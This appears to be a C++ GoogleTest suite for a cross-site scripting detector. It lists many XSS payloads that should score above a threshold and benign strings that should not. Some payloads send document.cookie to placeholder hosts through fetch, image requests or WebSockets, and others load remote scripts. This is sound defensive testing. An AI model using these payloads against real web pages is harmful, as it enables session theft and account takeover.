#include "inspect/xss/xss.h"

#include <gtest/gtest.h>

#include <string>

namespace onesec::inspect {
namespace {

std::uint32_t points(std::string_view text) {
  Reasons reasons;
  inspect_xss(text, ascii::Alphabet(text), reasons);
  for (const Reason& reason : reasons.all()) {
    EXPECT_LE(reason.begin, reason.end) << text;
    EXPECT_LE(reason.end, text.size()) << text;
  }
  return reasons.points(Attack::Xss);
}

TEST(Xss, MarkupThatRuns) {
  for (const char* attack :
       {"<script>fetch('//x/'+document.cookie)</script>", "<ScRiPt/src=//x.example/a.js>", "<img src=q onerror=go()>",
        "<p/onclick=go()>hello", "<svg><animate onbegin=go() attributeName=x>", "<iframe srcdoc='<b>'>",
        "<a href=\"java\tscript:go()\">", "<form><button formaction=javascript:go()>",
        "<object data=data:text/html;base64,PGI+>", "<embed src=//x.example/a.swf>", "<base href=//x.example/>",
        "<style>@import '//x/'</style>", "<x style=width:expression(go())>", "<!--[if IE]><b>",
        "<video><source onerror = 'go()'>", "<meta http-equiv=refresh content='0;url=//x'>"}) {
    EXPECT_GE(points(attack), kThreshold) << attack;
  }
}

TEST(Xss, AnAttributeIsLeft) {
  for (const char* attack : {"\" onfocus=go() autofocus x=\"", "' onmouseover='go()", "x onpointerenter=go(1)",
                             "\" style=\"width:expression(1)"}) {
    EXPECT_GE(points(attack), kThreshold) << attack;
  }
}

TEST(Xss, AnAddressRunsScript) {
  for (const char* attack :
       {"javascript:go()", " JaVaScRiPt:go()", "java\nscript:x=1", "data:text/html,<b>=1", "vbscript:MsgBox(1)"}) {
    EXPECT_GE(points(attack), kThreshold) << attack;
  }
}

TEST(Xss, AStringOfAScriptIsLeft) {
  for (const char* attack :
       {"';alert(7)//", "'-confirm(7)-'", "\"+eval(name)+\"", "\\';fetch('//x')//", "`-alert`7`-`",
        "'};location='//x/'+document.cookie;{'", "alert(7)", "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]"}) {
    EXPECT_GE(points(attack), kThreshold) << attack;
  }
}

TEST(Xss, WhatPeopleWriteIsNoAttack) {
  for (const char* text : {"a < b && c > d",
                           "List<String> names",
                           "<anna@example.org>",
                           "<https://example.org/a>",
                           "<b>bold</b> and <i>italic</i>",
                           "1 <2> 3",
                           "i <3 u",
                           "<a href=\"https://example.org\">link</a>",
                           "x = y; if (x) { go(); }",
                           "see the <script> tag",
                           "see the <script> tag (and its rules).",
                           "on=1&online=2",
                           "ontology=true",
                           "{\"a\": [1, 2]}",
                           "C:\\Users\\anna",
                           "javascript: the good parts",
                           "O'Brien (Anna)",
                           "alert fatigue",
                           "the location of the window",
                           "documentation.html",
                           "self.assertEqual(a, b)",
                           "p { color: red }",
                           "a;b,c:d",
                           "we confirm (again) your order",
                           "data:image/png;base64,iVBORw0KGgo="}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}

TEST(Xss, ScriptAsAWholeValue) {
  for (const std::string_view text : {"window[\"alert\"](1)", "document /*x*/ . cookie", "alert()",
                                      "fetch('//host.example')", "[].sort.call`${alert}1`", "(![]+[])[+!+[]]",
                                      "<f o r m>", "javascript:\\u0020", "-moz-binding:url(//host.example/a)"})
    EXPECT_GE(points(text), kThreshold) << text;
  for (const std::string_view text :
       {"JavaScript: The Good Parts", "alert (42).pdf", "onward==2024.1", "see the document. Body of it", "an array []",
        "self.location = location", "--location=LOCATION", "<3 you", "`alert`; `alert` & `alert`",
        "fetch(`/api/orders/${id}`).then(r => r.json())"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Xss, EveryByteIsReadOnceOrSo) {
  for (const char* piece : {"<script>", "<style>", "(", "[", "+(", "<", "<a ", "<a b='", "\"", "x=", "document.",
                            "alert(", "</", "<!--", "'`\"", "a b "}) {
    std::string text;
    while (text.size() < (64U << 10U)) text += piece;
    (void)points(text);
  }
}

TEST(Xss, AStringIsLeftForACallOfAnyFunction) {
  for (const char* attack :
       {"';go();//", "'-go(7)-'", "\"+(go)(7)+\"", "\\';import('//x.example');//", "'-[7].find(go)-'", "';go?.(7);//",
        "`-top['a'+'b'](7)-`", "q'*new Function`go\\`7\\``*'"}) {
    EXPECT_GE(points(attack), kThreshold) << attack;
  }
  for (const char* text : {"it's (really) 'fine'", "Men's-wear(new)", "'a' - 'b'", "don't; call(me)", "f('a', g(1))",
                           "'go()'", "x = 'a' + f(b)"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}

TEST(Xss, WhatAnAttributeHoldsMayBeMarkup) {
  EXPECT_GE(points("<noscript><p title=\"</noscript><img src=x onerror=go()>\">"), kThreshold);
  EXPECT_LT(points("<p title=\"a </b> c\">d</p>"), kThreshold);
  EXPECT_GE(points("<math><mi xlink:href=\"data:x,<script>go()</script>\">"), kThreshold);
}

TEST(Xss, LinksThatDoNothingAndEmbeddedVideos) {
  EXPECT_LT(points("javascript:void(0);"), kThreshold);
  EXPECT_LT(points("<a href=\"javascript:void(0)\">More</a>"), kThreshold);
  EXPECT_GE(points("javascript:void(go())"), kThreshold);
  EXPECT_LT(points("<iframe width=\"560\" height=\"315\" src=\"https://video.example/embed/a\"></iframe>"), kThreshold);
  EXPECT_GE(points("<embed width=560 height=315 src=\"https://x.example/a.swf\">"), kThreshold);
  EXPECT_GE(points("<iframe width=0 height=0 src=\"https://x.example/a\"></iframe>"), kThreshold);
  EXPECT_GE(points("<iframe width=560 height=315 src=https://x.example onload=go()>"), kThreshold);
}

TEST(Xss, ExpressionsOfATemplateLiteral) {
  for (const char* attack : {"a${alert(1)}", "${[1].map(prompt)}", "${({a:alert}).a()}",
                             "x${new WebSocket('//a.example/'+document.cookie)}"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"${alert}", "${user.name} (admin)", "Dear ${name}, print(this)", "${print}, and (so) on"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Xss, AStringIsLeftByALineOrAWord) {
  for (const char* attack :
       {"'\nf()//", "x' in f(1)-'", "x'!=f(1)-'", "x' + f (1) + '", "';f/*x*/(1);a='", "x`;f(1);a`", "x'\nf(1)\n-->"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"it's\nf() or g()", "the 'in' (word)'", "it's in f(x)", "`a`; `f(x)`; `b`", "x'\nf() -->"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Xss, FunctionsThatAreCalledBack) {
  for (const char* attack :
       {"javascript:''+{toString:alert}", "<a onclick=\"~{valueOf:(0,print)}\">", "{[Symbol.toPrimitive]:alert}-1"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"a toString: it prints", "{toString: function() { return alert; }}", "valueOf = 7; alert"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Xss, TagsAsBrowsersReadThem) {
  EXPECT_GE(points("<p oncontentvisibilityautostatechange=f style=content-visibility:auto>"), kThreshold);
  EXPECT_GE(points("<p x== onclick=f>"), kThreshold);
  EXPECT_LT(points("if a <p x==onclick"), kThreshold);
  EXPECT_GE(points("\"><script>a<\\/script>"), kThreshold);
  EXPECT_LT(points("the \"<script>\" element is old"), kThreshold);
}

TEST(Xss, AttributesThatBindDataOrAnimateAddresses) {
  for (const char* attack : {"<span datasrc=#a datafld=b>", "<svg><set attributeName=xlink:href to=//x.example/>",
                             "<animate attributename=onmouseover values=go()>", "<listener event=load handler='#y'>",
                             "<import implementation=#default#time2>", "<meta charset=utf-7>"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text :
       {"<span data-src=a>", "<set attributeName=width to=5>", "<a handler=b>", "<meta charset=utf-8>"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Xss, PagesAndMails) {
  for (const char* text :
       {"<html><head><meta charset=utf-8><base href=\"/\"><link rel=\"stylesheet\" href=\"/a.css\">"
        "<style>p{margin:0}</style></head><body><p>Hi</p></body></html>",
        "<!DOCTYPE html><meta http-equiv=\"X-UA-Compatible\" content=\"IE=edge\"><link rel=icon "
        "href=https://a.example/i>",
        "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"><p>Hi</p>",
        "<style>h1{color:red}</style><h1>Hi</h1>", "<b>a</b><style>a[b=c]{color:red}</style>",
        "<form><button>a</button></form>", "<!--[if gte mso 9]><xml><o:a></o:a></xml><![endif]--><p>Hi</p>",
        "<!--[if !vml]--><p>Hi</p><!--[endif]-->", "<style>v\\:* {behavior:url(#default#VML);}</style>",
        "<style>html{scroll-behavior:smooth}</style>",
        "<!--[if gte vml 1]><v:imagedata src=\"a.png\" o:title=\"a\"/><![endif]-->",
        "<iframe src=\"https://www.youtube.com/embed/a\"></iframe>", "<iframe src=\"//player.vimeo.com/video/1\">",
        "<object data=\"/b.pdf\" type=\"application/pdf\"></object>"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
  for (const char* attack :
       {"<html><base href=//x.example/ onclick=f()>", "<base href=//x.example/><p>", "<html><script src=//x.example/a>",
        "<meta http-equiv=\"Refresh\" content=\"0;url=//x.example\">",
        "<meta http-equiv=content-type content=\"text/html; charset=utf-7\">", "x</style><object data=//x.example>",
        "<!--[if gte mso 9]><img src=q onerror=f()><![endif]-->", "<!--[if gte IE 8]><b>",
        "<p style=\"behavior:url(a.htc)\">", "<b>a</b><style>a{b:c[d} e]{}</style>",
        "<p style=\"-ms-behavior:url(a.htc)\">", "<iframe src=\"https://youtube.com.x.example/embed/a\">",
        "<x:a xmlns:x=b><v:imagedata src=javascript:f()>", "<object data=\"//x.example/b\" type=\"application/pdf\">",
        "<xml id=a src=b.xml>", "<link rel=stylesheet href=//x.example/a.css>"}) {
    EXPECT_GE(points(attack), kThreshold) << attack;
  }
}

TEST(Xss, PropertiesOfJsx) {
  for (const char* text :
       {"<Tab onClick={open}>", "<Tab onClick={this.open}/>", "<Tab onChange={(e) => set(e.value)}>"})
    EXPECT_LT(points(text), kThreshold) << text;
  for (const char* attack : {"<img src=q onerror={go()}>", "<img src=q onError={go()}>", "<img src=q onError={a}go()>",
                             "<img src=q onError=\"{a} go()\">", "<img src=q onError={a=>0,go()}>",
                             "<img src=q onError={(a=>go())()}>", "<img src=q onError={()=>alert(1)}>"})
    EXPECT_GE(points(attack), kThreshold) << attack;
}

TEST(Xss, WordsAboutScript) {
  for (const char* text :
       {"javascript:void(0) error in my browser", "javascript:window.print();", "setTimeout(save, 100)",
        "`eval()` is evil, and setTimeout() late", "window.location.href", "document.cookie"})
    EXPECT_LT(points(text), kThreshold) << text;
  for (const char* attack : {"javascript:void(0);go()", "javascript:void(0) || go()", "javascript:window.print(go())",
                             "setTimeout('go()', 100)", "setTimeout(alert, 100)", "setTimeout(name,1)",
                             "window.location.href=name", "(document).cookie", "document/**/.cookie"})
    EXPECT_GE(points(attack), kThreshold) << attack;
}

TEST(Xss, CallsByAnotherWay) {
  for (const char* attack :
       {"alert.call(null,7)", "confirm?.(7)", "a=prompt,a(7)", "[7].some(alert)", "-(prompt)(document.title)//",
        "Function(\"ale\"+\"rt(7)\")();", "Map.constructor('a'+'(7)')()", "new Function`a\\`7\\``",
        "Reflect.apply(print,null,[7])", "import('//x.example/a.js')", "$.getScript(\"https://x.example/a\")",
        "String.fromCharCode(97,98,99,100,101)", "with(document)print(cookie)", "[a](javascript:go())",
        "[a](data:text/html;base64,PGI+)", "<p>a<style>input[value^=a]{b:url(//x)}</style>",
        "<p ng-focus=\"a|orderBy:'(z=alert)(7)'\">"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text :
       {"call alert.call(null) to see it", "the box (alert) is shown", "import('./a.js')", "String.fromCharCode(8364)",
        "a Function (\"f\")", "[a](https://a.example)", "[the javascript: scheme](/a)", "[a](javascript:)", "a=b,a(7)",
        "rows.find(alerts)", "g = Function('g')(y)", "Function('g', n=2)(y)", "a `mapFunction` as `b`",
        "[`Function`][], or so", "<style>a[href^=http]{b:url(/c)}</style>", "<p ng-click=\"save(row)\">"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Xss, AnAttributeAndItsTagAreLeft) {
  for (const char* attack : {"\"><b>x</b>", "'><!--", "\" /><h1>a", " '></p>"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"\"a\"><b>", "\">", "\"> 5 < 6", ">\"<b>", "'<b>"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Xss, LinksOfMarkdownThatRunScript) {
  EXPECT_GE(points("[a](javascript:go(1))"), kThreshold);
  EXPECT_LT(points("[a](javascript:void(0))"), kThreshold);
  EXPECT_LT(points("[a](https://h.example/b_(c)) d"), kThreshold);
}

TEST(Xss, AttributesAndSchemesInPieces) {
  for (const char* attack : {" onload= ", "\tonpointerrawupdate =", "ja\tvascript: ", "vb\nscript:x"})
    EXPECT_GE(points(attack), kThreshold) << attack;
  for (const char* text : {"onload=", " one =", " on= ", "javascript:", "\njavascript: The Good Parts"})
    EXPECT_LT(points(text), kThreshold) << text;
}

TEST(Xss, WhatIsLeftOpenOrLoadedFromElsewhere) {
  for (const char* text :
       {"<img src='//a.example/?", "<img src=\"https://a.example/log?leak=", "<img src=//a.example/?x='",
        "<base target='", "<table background='//a.example/?", "<button type=submit formaction='//a.example'>x",
        "<component is=script src=//a.example>", "<div ng-include=\"'//a.example/x.html'\"></div>",
        "\"ale\".concat(\"rt(1)\").replace(/.+/,eval)", "'});top.postMessage(document.cookie,`*`);({a:'",
        "new Image().src='//a.example/?'+document.cookie;"}) {
    EXPECT_GE(points(text), kThreshold) << text;
  }
  for (const char* text :
       {"<img src=\"https://a.example/a.png", "<img src='//a.example/?x=1'>", "<button formaction=\"/save\">x</button>",
        "<div ng-include=\"'views/x.html'\"></div>", "read document.cookie, then localStorage", "call map(x,evaluate)",
        "<base target=\"_blank\">"}) {
    EXPECT_LT(points(text), kThreshold) << text;
  }
}

TEST(Xss, LinksThatLoadNothingAndPlayersInStringsOfJson) {
  for (const char* text : {"<link rel=\"preconnect\" href=\"https://a.example/\" crossorigin>",
                           R"(<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/x\"></iframe>)"})
    EXPECT_LT(points(text), kThreshold) << text;
  EXPECT_GE(points("<link rel=stylesheet href=//a.example/x.css>"), kThreshold);
  EXPECT_GE(points(R"(<iframe src=\"javascript:alert(1)\">)"), 50U);
}

}  // namespace
}  // namespace onesec::inspect
